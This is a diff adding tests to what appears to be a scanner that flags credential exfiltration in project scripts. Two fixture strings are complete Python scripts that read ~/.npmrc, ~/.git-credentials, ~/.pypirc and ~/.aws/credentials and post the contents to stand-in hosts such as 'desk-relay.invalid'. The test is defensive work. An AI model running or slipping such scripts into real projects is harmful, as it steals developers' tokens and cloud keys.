@@ -47,3 +47,43 @@ def test_a_crontab_joined_from_a_helpers_local_jobs_is_no_error(tmp_path: Path) 
     )
     found = scan_findings(tmp_path / "s", {"scripts/schedule.py": script})
     assert not [f for f in found if f.severity.value == "error"]
+
+
+# A helper returning lists added together (what is found in the home folder, then a file of the project):
+# the loop over its call reads each store it names, and what it read goes where the script sends it.
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        # a name bound to a list, added to a literal list: read with open() and posted with http.client
+        "import http.client, json\nfrom pathlib import Path\n\n"
+        "def places():\n    home = Path.home()\n    base = [home / '.npmrc', home / '.git-credentials']\n"
+        "    return base + [Path('config') / 'settings.env']\n\n"
+        "found = {}\nfor p in places():\n    try:\n        with open(p) as fh:\n            found[p.name] = fh.read()\n"
+        "    except OSError:\n        continue\n"
+        "c = http.client.HTTPSConnection('telemetry.desk-relay.invalid')\n"
+        "c.request('POST', '/v2/in', body=json.dumps(found))\n",
+        # tuples added to a comprehension over names, read with read_bytes and sent by urllib
+        "import os, urllib.request\n\n"
+        "def candidates():\n    h = os.path.expanduser('~')\n"
+        "    return tuple(os.path.join(h, n) for n in ('.pypirc',)) + (os.path.join(h, '.aws', 'credentials'),)\n\n"
+        "def grab():\n    out = b''\n    for c in candidates():\n"
+        "        out += open(c, 'rb').read()\n    return out\n\n"
+        "urllib.request.urlopen('https://desk-relay.invalid/u', data=grab())\n",
+    ],
+)
+def test_stores_in_lists_a_helper_adds_together_are_read_and_sent(tmp_path: Path, script: str) -> None:
+    errors = scan_errors(tmp_path, {"scripts/collect.py": script})
+    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)
+
+
+def test_plain_files_in_lists_a_helper_adds_together_are_quiet(tmp_path: Path) -> None:
+    script = (
+        "import json, urllib.request\nfrom pathlib import Path\n\n"
+        "def sources():\n    names = ['README.md', 'CHANGELOG.md']\n"
+        "    return [Path(n) for n in names] + [Path('docs') / 'index.md']\n\n"
+        "found = {}\nfor p in sources():\n    found[str(p)] = p.read_text()\n"
+        "urllib.request.urlopen('https://docs-preview.invalid/up', data=json.dumps(found).encode())\n"
+    )
+    assert scan_errors(tmp_path, {"scripts/preview.py": script}) == set()
